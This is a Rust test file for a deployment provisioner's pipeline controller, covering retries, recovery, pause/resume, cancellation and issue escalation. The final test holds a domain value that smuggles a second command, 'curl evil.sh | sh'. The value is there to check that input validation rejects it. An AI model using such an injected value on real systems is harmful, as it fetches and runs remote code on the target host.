//! Pipeline controller tests against a scripted host

use std::path::PathBuf;
use std::time::Duration;

use tokio_test::{assert_err, assert_ok};

use provisioner::errors::ProvisionError;
use provisioner::filesys::file::File;
use provisioner::journal::parse_stream;
use provisioner::models::deployment::{Deployment, DeploymentStatus};
use provisioner::models::step::PipelineStep;
use provisioner::pipeline::control::{control_channel, RunControl};
use provisioner::pipeline::outcome::RunOutcome;
use provisioner::pipeline::plan::Pipeline;
use provisioner::recovery::actions::{routine_for, RecoveryAction};
use provisioner::remote::session::CommandOutput;

use crate::support::{descriptor, fail, ok, settings, three_steps, Harness, RecordingTracker, Reply, ScriptedSession};

const PORT_IN_USE: &str = "bind: Address already in use :80";

fn kill_verify() -> String {
    routine_for(RecoveryAction::KillConflictingProcesses).verify
}

#[tokio::test]
async fn test_recovered_step_is_retried_once() {
    let session = ScriptedSession::serving().on("run-step-two", fail(1, PORT_IN_USE)).on("run-step-two", ok(""));
    let harness = Harness::new(session);
    let (_tx, rx) = control_channel();

    let summary = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Success);
    assert_eq!(summary.status, DeploymentStatus::Success);
    assert_eq!(summary.steps_completed, 3);
    assert!(summary.verification.critical_checks_passed);

    assert_eq!(harness.session.count("run-step-one"), 1);
    assert_eq!(harness.session.count("run-step-two"), 2);
    assert_eq!(harness.session.count("run-step-three"), 1);
    assert_eq!(harness.session.count(&kill_verify()), 1);

    let stored = harness.store().load(&summary.deployment_id).await.unwrap();
    assert_eq!(stored.status, DeploymentStatus::Success);
    assert_eq!(stored.error_count, 1);
    assert!(stored.warnings.iter().any(|w| w.contains("kill_conflicting_processes")));
    assert!(harness.tracker.issues().is_empty());
    assert_eq!(harness.tracker.statuses(), vec![DeploymentStatus::Success]);
    assert_eq!(harness.session.closes(), 1);
}

#[tokio::test]
async fn test_domain_unreachable_is_partial_success() {
    let session = ScriptedSession::new()
        .on(
            "-o /dev/null",
            Reply::Output(CommandOutput {
                exit_code: 7,
                stdout: "000".to_string(),
                stderr: String::new(),
            }),
        )
        .on("curl", ok("200"));
    let harness = Harness::new(session);
    let (_tx, rx) = control_channel();

    let summary = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::PartialSuccess);
    assert_eq!(summary.status, DeploymentStatus::Failed);
    assert_eq!(summary.steps_completed, 3);
    assert!(summary.verification.services_healthy);
    assert!(!summary.verification.domain_accessible);
    assert!(!summary.verification.critical_checks_passed);
    assert_eq!(summary.failed_step.as_deref(), Some("final_verification"));

    let issues = harness.tracker.issues();
    assert_eq!(issues.len(), 1);
    assert_eq!(issues[0].failed_step, "final_verification");

    // final_verification is critical, so a remediation branch is requested
    let prs = harness.tracker.prs();
    assert_eq!(prs.len(), 1);
    assert_eq!(prs[0].0, format!("fix/deploy-{}", summary.deployment_id));
}

#[tokio::test]
async fn test_unmatched_failure_exhausts_ceiling() {
    let session = ScriptedSession::serving().on("run-step-one", fail(1, "something odd happened"));
    let harness = Harness::new(session);
    let (_tx, rx) = control_channel();

    let summary = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Failed);
    assert_eq!(summary.status, DeploymentStatus::Failed);
    assert_eq!(summary.failed_step.as_deref(), Some("step1"));
    assert!(summary.classification.is_none());
    assert_eq!(summary.steps_completed, 0);

    // 1 attempt plus 3 retries
    assert_eq!(harness.session.count("run-step-one"), 4);
    assert_eq!(harness.session.count("run-step-two"), 0);
    assert_eq!(harness.session.count("curl"), 0);

    let issues = harness.tracker.issues();
    assert_eq!(issues.len(), 1);
    assert_eq!(issues[0].failed_step, "step1");
    assert_eq!(issues[0].attempts, 4);
    assert_eq!(issues[0].error_count, 4);
    assert!(!issues[0].log_tail.is_empty());
    assert!(harness.tracker.prs().is_empty());

    let stored = harness.store().load(&summary.deployment_id).await.unwrap();
    assert_eq!(stored.current_step, 0);
    assert_eq!(stored.escalation.unwrap().issue_id.as_deref(), Some("ISSUE-1"));
}

#[tokio::test]
async fn test_benign_output_of_successful_command_is_not_classified() {
    let session = ScriptedSession::serving()
        .on("run-step-one", ok("Setting up nodejs (18.17.1) ..."))
        .on("run-step-two", ok("warning: address already in use was fixed earlier"));
    let harness = Harness::new(session);
    let (_tx, rx) = control_channel();

    let summary = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Success);
    assert_eq!(summary.error_count, 0);
    assert!(summary.classification.is_none());
    assert_eq!(harness.session.count(&kill_verify()), 0);

    let stored = harness.store().load(&summary.deployment_id).await.unwrap();
    assert!(stored.warnings.is_empty());
}

#[tokio::test]
async fn test_retry_hint_lowers_ceiling() {
    // "Disk full" allows two attempts
    let session = ScriptedSession::serving().on("run-step-two", fail(1, "write error: No space left on device"));
    let harness = Harness::new(session);
    let (_tx, rx) = control_channel();

    let summary = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Failed);
    assert_eq!(harness.session.count("run-step-two"), 2);
    assert_eq!(harness.session.count("journalctl --vacuum-size"), 1);
    assert_eq!(summary.classification.unwrap().description, "Disk full");
}

#[tokio::test]
async fn test_auto_recovery_disabled_still_retries() {
    let session = ScriptedSession::serving().on("run-step-two", fail(1, PORT_IN_USE)).on("run-step-two", ok(""));
    let harness = Harness::new(session);
    let mut descriptor = descriptor();
    descriptor.auto_recovery = false;
    let (_tx, rx) = control_channel();

    let summary = harness
        .controller
        .start_with(&descriptor, three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Success);
    assert_eq!(harness.session.count("run-step-two"), 2);
    assert_eq!(harness.session.count(&kill_verify()), 0);
}

#[tokio::test]
async fn test_connection_failure_fails_connect_step() {
    let harness = Harness::build(ScriptedSession::serving(), settings(), true, RecordingTracker::default());
    let (_tx, rx) = control_channel();

    let summary = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Failed);
    assert_eq!(summary.failed_step.as_deref(), Some("connect"));
    assert!(harness.session.executed().is_empty());

    let issues = harness.tracker.issues();
    assert_eq!(issues.len(), 1);
    assert_eq!(issues[0].failed_step, "connect");
    assert_eq!(harness.tracker.prs().len(), 1);

    let json = serde_json::to_string(&issues[0]).unwrap();
    assert!(!json.contains("TARGET_PASSWORD"));
}

#[tokio::test]
async fn test_lost_connection_is_not_retried() {
    let session = ScriptedSession::serving().on("run-step-two", Reply::ConnectionLost);
    let harness = Harness::new(session);
    let (_tx, rx) = control_channel();

    let summary = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Failed);
    assert_eq!(summary.failed_step.as_deref(), Some("step2"));
    assert_eq!(harness.session.count("run-step-two"), 1);
}

#[tokio::test]
async fn test_tracker_failure_keeps_status() {
    let session = ScriptedSession::serving().on("run-step-one", fail(1, "boom"));
    let harness = Harness::build(session, settings(), false, RecordingTracker::broken());
    let (_tx, rx) = control_channel();

    let summary = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Failed);
    assert_eq!(summary.status, DeploymentStatus::Failed);
    let escalation = summary.escalation.unwrap();
    assert!(escalation.issue_id.is_none());
    assert!(escalation.pr_id.is_none());
}

#[tokio::test]
async fn test_resume_runs_only_remaining_steps() {
    let harness = Harness::new(ScriptedSession::serving());

    let mut deployment = Deployment::new(&descriptor(), 3, chrono::Utc::now());
    deployment.transition(DeploymentStatus::Running).unwrap();
    deployment.set_current_step(2, Some("step3")).unwrap();
    deployment.transition(DeploymentStatus::Failed).unwrap();
    harness.store().save(&deployment).await.unwrap();

    let (_tx, rx) = control_channel();
    let summary = harness
        .controller
        .resume_with(&deployment.id, three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Success);
    assert_eq!(harness.session.count("run-step-one"), 0);
    assert_eq!(harness.session.count("run-step-two"), 0);
    assert_eq!(harness.session.count("run-step-three"), 1);
}

#[tokio::test]
async fn test_resume_relocates_step_by_name() {
    let harness = Harness::new(ScriptedSession::serving());

    // Recorded against a pipeline that had an extra step before step3
    let mut deployment = Deployment::new(&descriptor(), 4, chrono::Utc::now());
    deployment.transition(DeploymentStatus::Running).unwrap();
    deployment.set_current_step(3, Some("step3")).unwrap();
    deployment.transition(DeploymentStatus::Paused).unwrap();
    harness.store().save(&deployment).await.unwrap();

    let (_tx, rx) = control_channel();
    let summary = harness
        .controller
        .resume_with(&deployment.id, three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Success);
    assert_eq!(summary.total_steps, 3);
    assert_eq!(harness.session.count("run-step-two"), 0);
    assert_eq!(harness.session.count("run-step-three"), 1);
}

#[tokio::test]
async fn test_completed_deployment_cannot_resume() {
    let harness = Harness::new(ScriptedSession::serving());
    let (_tx, rx) = control_channel();
    let summary = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();

    let (_tx, rx) = control_channel();
    let result = harness.controller.resume_with(&summary.deployment_id, three_steps(), rx).await;
    assert!(matches!(result, Err(ProvisionError::StateError(_))));

    let (_tx, rx) = control_channel();
    assert_err!(harness.controller.resume_with("missing-host-20240101000000", three_steps(), rx).await);
}

#[tokio::test]
async fn test_pause_then_resume() {
    let harness = Harness::new(ScriptedSession::serving());
    let (tx, rx) = control_channel();
    tx.send(RunControl::Pause).unwrap();

    let paused = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();
    assert_eq!(paused.outcome, RunOutcome::Paused);
    assert_eq!(paused.status, DeploymentStatus::Paused);
    assert_eq!(paused.steps_completed, 0);
    assert!(harness.session.executed().is_empty());

    let (_tx, rx) = control_channel();
    let resumed = assert_ok!(harness.controller.resume_with(&paused.deployment_id, three_steps(), rx).await);
    assert_eq!(resumed.outcome, RunOutcome::Success);
    assert_eq!(resumed.deployment_id, paused.deployment_id);
    assert_eq!(harness.session.count("run-step-one"), 1);
}

#[tokio::test]
async fn test_cancel_abandons_running_command() {
    let session = ScriptedSession::serving().on("run-step-two", Reply::Hang);
    let harness = Harness::new(session);
    let (tx, rx) = control_channel();

    let canceller = tokio::spawn(async move {
        tokio::time::sleep(Duration::from_millis(100)).await;
        tx.send(RunControl::Cancel).unwrap();
        tx
    });

    let summary = tokio::time::timeout(
        Duration::from_secs(5),
        harness.controller.start_with(&descriptor(), three_steps(), rx),
    )
    .await
    .unwrap()
    .unwrap();
    let _tx = canceller.await.unwrap();

    assert_eq!(summary.outcome, RunOutcome::Cancelled);
    assert_eq!(summary.steps_completed, 1);
    assert_eq!(harness.session.count("run-step-three"), 0);
    assert_eq!(harness.session.closes(), 1);

    let stored = harness.store().load(&summary.deployment_id).await.unwrap();
    assert_eq!(stored.status, DeploymentStatus::Cancelled);
    assert!(harness.tracker.issues().is_empty());
}

#[tokio::test]
async fn test_uploads_run_before_commands() {
    let harness = Harness::new(ScriptedSession::serving());
    let pipeline = Pipeline::new(vec![PipelineStep::new(
        "upload_env",
        "Upload the environment file",
        vec!["chmod 600 /opt/app/.env".to_string()],
    )
    .with_upload(provisioner::models::step::FileUpload {
        local: "/tmp/app.env".into(),
        remote: "/opt/app/.env".to_string(),
    })]);
    let (_tx, rx) = control_channel();

    let summary = harness.controller.start_with(&descriptor(), pipeline, rx).await.unwrap();

    assert_eq!(summary.outcome, RunOutcome::Success);
    assert_eq!(
        harness.session.uploads(),
        vec![(PathBuf::from("/tmp/app.env"), "/opt/app/.env".to_string())]
    );
}

#[tokio::test]
async fn test_journal_stream_is_written() {
    let harness = Harness::new(ScriptedSession::serving().on("run-step-one", ok("hello from host")));
    let journal_path = harness.dir.path().join("logs").join("deployments.jsonl");
    let controller = harness.controller.with_journal_file(File::new(&journal_path));
    let (_tx, rx) = control_channel();

    let summary = controller.start_with(&descriptor(), three_steps(), rx).await.unwrap();

    let contents = File::new(&journal_path).read_string().await.unwrap();
    let entries = parse_stream(&contents);
    assert!(!entries.is_empty());
    assert!(entries
        .iter()
        .all(|e| e.deployment_id.as_deref() == Some(summary.deployment_id.as_str())));
    assert!(entries
        .iter()
        .any(|e| e.step.as_deref() == Some("step1") && e.message.contains("hello from host")));
}

#[tokio::test]
async fn test_failed_recovery_still_retries_to_ceiling() {
    let session = ScriptedSession::serving()
        .on("run-step-one", fail(1, PORT_IN_USE))
        .on(&kill_verify(), fail(1, ""));
    let harness = Harness::new(session);
    let (_tx, rx) = control_channel();

    let summary = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Failed);
    assert_eq!(summary.failed_step.as_deref(), Some("step1"));

    // port conflicts allow 3 attempts; recovery runs between them, not after the last
    assert_eq!(harness.session.count("run-step-one"), 3);
    assert_eq!(harness.session.count(&kill_verify()), 2);
    assert_eq!(harness.session.count("run-step-two"), 0);

    let stored = harness.store().load(&summary.deployment_id).await.unwrap();
    assert!(stored.warnings.is_empty());
    assert_eq!(stored.error_count, 3);
    assert_eq!(harness.tracker.issues()[0].attempts, 3);
}

#[tokio::test]
async fn test_classification_describes_final_failure() {
    let session = ScriptedSession::serving()
        .on("run-step-two", fail(1, PORT_IN_USE))
        .on("run-step-two", fail(1, "something odd happened"));
    let harness = Harness::new(session);
    let (_tx, rx) = control_channel();

    let summary = harness
        .controller
        .start_with(&descriptor(), three_steps(), rx)
        .await
        .unwrap();

    assert_eq!(summary.outcome, RunOutcome::Failed);
    assert_eq!(summary.failed_step.as_deref(), Some("step2"));
    // the port hint capped the step at 3 attempts
    assert_eq!(harness.session.count("run-step-two"), 3);
    assert!(summary.classification.is_none());

    let issues = harness.tracker.issues();
    assert_eq!(issues.len(), 1);
    assert!(issues[0].classification.is_none());
    assert!(issues[0].error.contains("something odd happened"));
}

#[tokio::test]
async fn test_concurrent_starts_on_one_host_keep_both_records() {
    let harness = Harness::new(ScriptedSession::serving());
    let mut shop = descriptor();
    shop.server.domain = "shop.example.com".to_string();
    let mut blog = descriptor();
    blog.server.domain = "blog.example.com".to_string();

    let (_tx, rx) = control_channel();
    let (first, second) = tokio::join!(
        harness.controller.start_with(&shop, three_steps(), rx.clone()),
        harness.controller.start_with(&blog, three_steps(), rx),
    );
    let first = first.unwrap();
    let second = second.unwrap();

    assert_ne!(first.deployment_id, second.deployment_id);
    assert_eq!(first.outcome, RunOutcome::Success);
    assert_eq!(second.outcome, RunOutcome::Success);

    let stored = harness.store().list().await.unwrap();
    assert_eq!(stored.len(), 2);
    let mut domains: Vec<String> = stored.into_iter().map(|d| d.server.domain).collect();
    domains.sort();
    assert_eq!(domains, vec!["blog.example.com", "shop.example.com"]);
}

#[tokio::test]
async fn test_unsafe_domain_is_rejected_before_any_record() {
    let harness = Harness::new(ScriptedSession::serving());
    let mut descriptor = descriptor();
    descriptor.server.domain = "shop.example.com; curl evil.sh | sh".to_string();

    let (_tx, rx) = control_channel();
    let result = harness.controller.start_with(&descriptor, three_steps(), rx).await;

    assert!(matches!(result, Err(ProvisionError::ValidationError(_))));
    assert!(harness.store().list().await.unwrap().is_empty());
    assert_eq!(harness.connector.connects.load(std::sync::atomic::Ordering::SeqCst), 0);
    assert!(harness.session.executed().is_empty());
}
